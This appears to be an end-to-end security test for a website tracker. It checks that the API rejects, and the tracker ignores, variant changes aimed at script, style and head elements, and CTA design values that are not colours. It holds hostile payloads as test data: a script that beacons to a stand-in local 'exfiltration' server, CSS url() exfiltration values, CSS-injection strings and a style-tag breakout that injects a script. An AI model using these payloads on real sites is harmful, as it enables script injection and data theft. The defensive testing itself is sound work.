// Issue 25, "Script on customer pages", live: the real API (booted here, PGlite), the real tracker it
// serves at GET /tracker.js (built in beforeAll), and Debian's Chromium on a customer's page.
//
// Both layers of the rule (libs/cro/src/domain/page-safety.ts):
// - The API refuses a variant change whose selector names a <script>, a campaign container at
//   `head > title`, and a CTA design value that is not a colour (`url(...)`), with the message
//   under the exact field.
// - The tracker never changes a script, style, title or anything in the head, whatever selector
//   matched it, and never sets a design value that is not shaped as a colour, a length or font
//   names. Records stored before the API's rule can hold such values: the test stores them as such
//   a record would be, by appending `ExperimentUpdated` and `CtaUpdated` events to the store (the
//   API now refuses them), after publishing benign versions through the API. Some selectors name
//   the element (`script#slot`, `style`, XPath `//script[...]`, `head > title`); some do not
//   (`#slot-by-id`, `#host-style`, and a campaign container at `#slot-by-id`), which no schema can
//   see: the tracker's own check stops them.
//
// The customer's website is a Node HTTPS server on 127.0.0.1 (a self-signed certificate made with
// openssl; campaign page rules take https:// only), and an "exfiltration" HTTPS server on another
// port records every request made to it. On the page, nothing may run: the global flag the
// injected script would set stays unset, the host's styles and title are unchanged, the CTA shows
// with its valid design value only, and the exfiltration server receives no request.
import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createServer as createHttpsServer, type Server } from 'node:https';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { BrowserContext, Page } from 'playwright-core';
import request from 'supertest';
import { afterAll, afterEach, beforeAll, expect, it } from '@jest/globals';
import type { RegisteredEventStore } from '#libs/eventstore/src/index.js';
import { readCollectedEvents } from '#libs/cro/src/projections/collected-events.js';
import { expectWith } from '../support/expect.js';
import { pageQuiet, trackRequests } from '../support/page-events.js';
import { requires } from '../support/requires.js';
import { OWNER, boot, setups, signIn, until, type Agent, type Booted } from '../e2e/setups.js';
import { CHROMIUM_PATH, launchChromium, type BrowserSession } from './chromium.js';

const hasChromium = existsSync(CHROMIUM_PATH);
const ROOT = new URL('../../', import.meta.url);
const setup = setups[0];

const HOST_TITLE = 'Customer page';
const HOST_CSS = '#intro{color:rgb(10, 20, 30)}';

/**
 * The customer's page: three empty inline scripts (a script without text has not run yet: text
 * set on it later runs it), the host's own style and title, a headline the variant may change,
 * and the container's target.
 */
function customerPage(apiUrl: string, key: string): string {
  return `<!doctype html><html><head><meta charset="utf-8"><title>${HOST_TITLE}</title>
<style id="host-style">${HOST_CSS}</style>
<script id="slot"></script><script id="slot-by-id"></script><script id="slot-xpath"></script>
<script async src="${apiUrl}/tracker.js" data-site-key="${key}"></script>
</head><body style="margin:0">
<h1 id="headline">Original headline</h1>
<p id="intro">The customer's introduction.</p>
</body></html>`;
}

requires(hasChromium && setup !== undefined, 'Chromium at /usr/bin/chromium')(
  `the tracker changes no script or style on a customer's page (${setup?.name})`,
  () => {
    let t: Booted;
    let owner: Agent;
    let chromium: BrowserSession;
    let site: Server;
    let exfil: Server;
    let certDir: string;
    let origin = '';
    let exfilUrl = '';
    /** Every request the exfiltration server received (method and path). */
    const stolen: string[] = [];
    const contexts: BrowserContext[] = [];
    const pageErrors: string[] = [];
    const website = { id: '', key: '', organisationId: '' };
    let ownerId = '';
    let ctaId = '';
    let experimentId = '';

    const created = async (resource: string, body: Record<string, unknown>) => {
      const res = await owner.post(`/api/${resource}`).send(body);
      expectWith(res.status, `POST /api/${resource}: ${JSON.stringify(res.body)}`).toBe(201);
      return res.body as { id: string; key: string; organisationId: string };
    };
    const act = async (resource: string, id: string, action: string) => {
      const res = await owner.post(`/api/${resource}/${id}/actions/${action}`).send({});
      expectWith(res.status, `${resource} ${action}: ${JSON.stringify(res.body)}`).toBe(200);
      return res.body as Record<string, unknown>;
    };
    /** Appends one event to a record's stream, as a record stored before the rules would hold it, and waits for its projection. */
    async function storedBeforeTheRule(stream: string, type: string, data: Record<string, unknown>): Promise<void> {
      const store = t.app.runtime.store as RegisteredEventStore;
      const written = await store.append(
        stream,
        [{ type, data, metadata: { actorId: ownerId, organisationId: website.organisationId, command: 'Update' } }],
        'any',
      );
      await t.app.runtime.projections.waitFor(written.position);
    }

    beforeAll(async () => {
      execFileSync(process.execPath, ['apps/tracker/build.mjs'], { cwd: ROOT, stdio: 'pipe' });
      certDir = mkdtempSync(join(tmpdir(), 'tracker-safety-'));
      execFileSync(
        'openssl',
        [
          'req',
          '-x509',
          '-newkey',
          'ec',
          '-pkeyopt',
          'ec_paramgen_curve:prime256v1',
          '-nodes',
          '-days',
          '2',
          '-keyout',
          join(certDir, 'key.pem'),
          '-out',
          join(certDir, 'cert.pem'),
          '-subj',
          '/CN=127.0.0.1',
          '-addext',
          'subjectAltName=IP:127.0.0.1',
        ],
        { stdio: 'ignore' },
      );
      const tls = { key: readFileSync(join(certDir, 'key.pem')), cert: readFileSync(join(certDir, 'cert.pem')) };

      exfil = createHttpsServer(tls, (req, res) => {
        stolen.push(`${req.method} ${req.url}`);
        res.writeHead(200, { 'Content-Type': 'text/plain', 'Access-Control-Allow-Origin': '*' }).end('ok');
      });
      await new Promise<void>((resolve) => exfil.listen(0, '127.0.0.1', resolve));
      exfilUrl = `https://127.0.0.1:${(exfil.address() as AddressInfo).port}`;

      let page = (): string => '';
      site = createHttpsServer(tls, (req, res) => {
        if (new URL(req.url ?? '/', origin).pathname !== '/page')
          res.writeHead(404, { 'Content-Type': 'text/plain' }).end('not found');
        else
          res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8', 'Cache-Control': 'no-store' }).end(page());
      });
      await new Promise<void>((resolve) => site.listen(0, '127.0.0.1', resolve));
      origin = `https://127.0.0.1:${(site.address() as AddressInfo).port}`;

      t = await boot(setup!);
      owner = await signIn(t.url, OWNER);
      ownerId = ((await owner.get('/api/auth/user')).body as { id: string }).id;
      chromium = await launchChromium();

      const made = await created('websites', { name: 'Safe Garden', url: origin });
      Object.assign(website, { id: made.id, key: made.key, organisationId: made.organisationId });
      page = () => customerPage(t.url, website.key);

      // Published through the API with values it accepts; the hostile ones come in below, as stored before the rule.
      ctaId = (
        await created('ctas', {
          websiteId: website.id,
          name: 'Inline offer',
          type: 'inline',
          items: [
            { type: 'paragraph', label: 'Ten percent off today' },
            { type: 'button', label: 'Shop now' },
          ],
          design: { backgroundColor: '#ffffff' },
        })
      ).id;
      await act('ctas', ctaId, 'Publish');
      const campaign = await created('campaigns', {
        websiteId: website.id,
        name: 'Inline offer',
        url: `${origin}/page`,
        containers: [
          { name: 'After the intro', ctaId, devices: [], position: 'below', selector: '#intro', selectorType: 'css' },
          // An id the API cannot know is a <script> in the head: the tracker inserts nothing there.
          {
            name: 'Beside a script',
            ctaId,
            devices: [],
            position: 'below',
            selector: '#slot-by-id',
            selectorType: 'css',
          },
        ],
        pageRules: { operator: 'or', rules: [{ kind: 'exact', value: `${origin}/page` }] },
      });
      await act('campaigns', campaign.id, 'Publish');
      const goal = await created('goals', { websiteId: website.id, name: 'Clicks', type: 'count', event: 'cta_click' });
      experimentId = (
        await created('experiments', {
          websiteId: website.id,
          name: 'Headline test',
          pageUrl: `${origin}/page`,
          testType: 'ab',
          goalId: goal.id,
          variants: [
            { key: 'control', weight: 0, changes: [] },
            { key: 'b', weight: 100, changes: [{ selector: '#headline', text: 'Safe headline' }] },
          ],
        })
      ).id;
      await act('experiments', experimentId, 'Publish');
    }, 120_000);

    afterEach(async () => {
      await Promise.all(contexts.splice(0).map((c) => c.close().catch(() => undefined)));
      expect(pageErrors.splice(0)).toEqual([]);
    });

    afterAll(async () => {
      await chromium?.close();
      await t?.stop();
      for (const server of [site, exfil]) {
        server?.closeAllConnections();
        await new Promise((resolve) => (server ? server.close(resolve) : resolve(undefined)));
      }
      if (certDir) rmSync(certDir, { recursive: true, force: true });
    });

    it('the API refuses a variant change on a <script>, a container at head > title and a design value url(...), under the field', async () => {
      const script = await owner.put(`/api/experiments/${experimentId}`).send({
        variants: [
          { key: 'control', weight: 0, changes: [] },
          {
            key: 'b',
            weight: 100,
            changes: [
              { selector: '#headline', text: 'x' },
              { selector: 'div script', text: 'window.__pwned = 1' },
            ],
          },
        ],
      });
      expect([script.status, script.body.errors]).toEqual([
        422,
        {
          'variants.1.changes.1.selector':
            'Changes: selector must not target script, style, noscript, template, iframe, object, embed, title, head, link, base or meta elements (the tracker never changes them)',
        },
      ]);
      const xpath = await owner.put(`/api/experiments/${experimentId}`).send({
        variants: [
          { key: 'control', weight: 0, changes: [] },
          { key: 'b', weight: 100, changes: [{ selector: '//style', selectorType: 'xpath', text: 'body{}' }] },
        ],
      });
      expect([xpath.status, Object.keys(xpath.body.errors ?? {})]).toEqual([422, ['variants.1.changes.0.selector']]);

      const title = await owner.post('/api/campaigns').send({
        websiteId: website.id,
        name: 'Into the head',
        containers: [
          { name: 'Head', ctaId, devices: [], position: 'below', selector: 'head > title', selectorType: 'css' },
        ],
      });
      expect([title.status, title.body.errors]).toEqual([
        422,
        {
          'containers.0.selector':
            'Selector must not target script, style, noscript, template, iframe, object, embed, title, head, link, base or meta elements (the tracker never changes them)',
        },
      ]);

      const design = await owner
        .put(`/api/ctas/${ctaId}`)
        .send({ design: { backgroundColor: `url(${exfilUrl}/design)` } });
      expect([design.status, design.body.errors]).toEqual([
        422,
        {
          'design.backgroundColor':
            'Design: backgroundColor must be a colour (#hex, rgb(), rgba(), hsl(), hsla() or a colour name)',
        },
      ]);
      const css = await owner.post('/api/ctas').send({
        websiteId: website.id,
        name: 'Styled popup',
        type: 'popup',
        popup: {
          triggers: [{ kind: 'page_load' }],
          frequency: 'once',
          layout: 'modal',
          width: 'half',
          devices: ['desktop'],
          customCss: '.x{}</style><script>alert(1)</script>',
        },
      });
      expect([css.status, Object.keys(css.body.errors ?? {})]).toEqual([422, ['popup.customCss']]);
      // Nothing of it was recorded: the records are as published.
      const record = (await owner.get(`/api/ctas/${ctaId}`)).body as { design: unknown };
      expect(record.design).toEqual({ backgroundColor: '#ffffff' });
    });

    it('a variant stored before the rule targets <script> and <style> elements and a CTA carries url(...) design values: on the page nothing runs, loads or restyles', async () => {
      const exfilScript = `window.__pwned = (window.__pwned || 0) + 1; new Image().src = ${JSON.stringify(`${exfilUrl}/script`)};`;
      const exfilCss = `#intro{color:rgb(255, 0, 0)} body{background-image:url(${exfilUrl}/style)}`;
      await storedBeforeTheRule(`experiment-${experimentId}`, 'ExperimentUpdated', {
        changes: {
          variants: [
            { key: 'control', weight: 0, changes: [] },
            {
              key: 'b',
              weight: 100,
              changes: [
                { selector: 'script#slot', text: exfilScript },
                { selector: '#slot-by-id', text: exfilScript },
                { selector: '//script[@id="slot-xpath"]', selectorType: 'xpath', text: exfilScript },
                { selector: 'style', text: exfilCss },
                { selector: '#host-style', text: exfilCss },
                { selector: 'head > title', text: 'Hijacked' },
                { selector: 'head', hide: true },
                { selector: '#headline', text: 'Safe headline' },
              ],
            },
          ],
        },
        by: { id: ownerId, name: 'Owner' },
      });
      await storedBeforeTheRule(`cta-${ctaId}`, 'CtaUpdated', {
        changes: {
          design: {
            backgroundColor: `url(${exfilUrl}/design-background)`,
            buttonColor: `url(${exfilUrl}/design-button)`,
            buttonTextColor: `red;background-image:url(${exfilUrl}/design-text)`,
            fontFamily: `x;}body{background:url(${exfilUrl}/design-font)}`,
            borderRadius: `calc(1px + url(${exfilUrl}/design-radius))`,
            textColor: 'rgb(1, 2, 3)',
          },
        },
        by: { id: ownerId, name: 'Owner' },
      });
      // The placements answer what was stored: the hostile values reach the tracker.
      const placements = await request(t.url)
        .get(`/api/public/sites/${website.key}/placements?url=${encodeURIComponent(`${origin}/page`)}`)
        .set('Origin', origin);
      expect(placements.body.experiments[0].variants[1].changes[0]).toEqual({
        selector: 'script#slot',
        text: exfilScript,
      });
      expect(placements.body.ctas[0].design.backgroundColor).toBe(`url(${exfilUrl}/design-background)`);

      const context = await chromium.browser.newContext({
        ignoreHTTPSErrors: true,
        viewport: { width: 1280, height: 800 },
      });
      contexts.push(context);
      const page: Page = await context.newPage();
      page.setDefaultTimeout(15_000);
      page.on('pageerror', (error) => pageErrors.push(error.message));
      const requests = trackRequests(page);
      await page.goto(`${origin}/page`);

      // The tracker ran: the variant's safe change is applied, the CTA is shown, the exposure is stored.
      await until(
        'the safe change',
        () => page.locator('#headline').textContent(),
        (text) => text === 'Safe headline',
        15_000,
      );
      const cta = page.locator(`#intro + [data-cro-cta="${ctaId}"]`);
      await cta.waitFor();
      const visitor = (await page.evaluate('window.__cro.visitorId')) as string;
      await page.evaluate('window.__cro.flush()');
      await until(
        'the exposure',
        () =>
          readCollectedEvents(t.app.runtime.db, website.id, {
            from: new Date(Date.now() - 3_600_000),
            to: new Date(Date.now() + 3_600_000),
            names: ['experiment_exposure'],
          }),
        (events) => events.some((e) => e.distinctId === visitor),
        15_000,
      );
      // Anything the page was made to load has been asked and answered: no request in flight, none
      // started by the styles of the next frame.
      await pageQuiet(page, requests);

      const seen = await page.evaluate(`(() => {
      const cta = document.querySelector('#intro + [data-cro-cta="${ctaId}"]');
      const button = cta.querySelector('.cro-b');
      const css = (el, prop) => getComputedStyle(el).getPropertyValue(prop);
      return {
        pwned: typeof window.__pwned,
        scripts: [...document.querySelectorAll('head script[id]')].map((s) => [s.id, s.textContent]),
        hostStyle: document.getElementById('host-style').textContent,
        introColour: css(document.getElementById('intro'), 'color'),
        bodyBackground: css(document.body, 'background-image'),
        title: document.title,
        headInlineStyle: document.head.getAttribute('style'),
        ctasInHead: document.head.querySelectorAll('[data-cro-cta]').length,
        cta: [css(cta, 'background-image'), css(cta, 'background-color'), css(cta, 'color'), css(cta, 'border-top-left-radius')],
        button: [css(button, 'background-image'), css(button, 'background-color'), css(button, 'color')],
        properties: ['--cro-bg', '--cro-accent', '--cro-accent-fg', '--cro-font', '--cro-r', '--cro-fg'].map((p) => cta.style.getPropertyValue(p)),
      };
    })()`);
      expect({ ...(seen as object), stolen }).toEqual({
        pwned: 'undefined',
        scripts: [
          ['slot', ''],
          ['slot-by-id', ''],
          ['slot-xpath', ''],
        ],
        hostStyle: HOST_CSS,
        introColour: 'rgb(10, 20, 30)',
        bodyBackground: 'none',
        title: HOST_TITLE,
        headInlineStyle: null,
        ctasInHead: 0,
        // The tracker's defaults (styles.ts: white, 8 px, the accent #0b5cff with white text); only the valid text colour is set.
        cta: ['none', 'rgb(255, 255, 255)', 'rgb(1, 2, 3)', '8px'],
        button: ['none', 'rgb(11, 92, 255)', 'rgb(255, 255, 255)'],
        properties: ['', '', '', '', '', 'rgb(1, 2, 3)'],
        // No request reached the exfiltration server.
        stolen: [],
      });
    });
  },
);
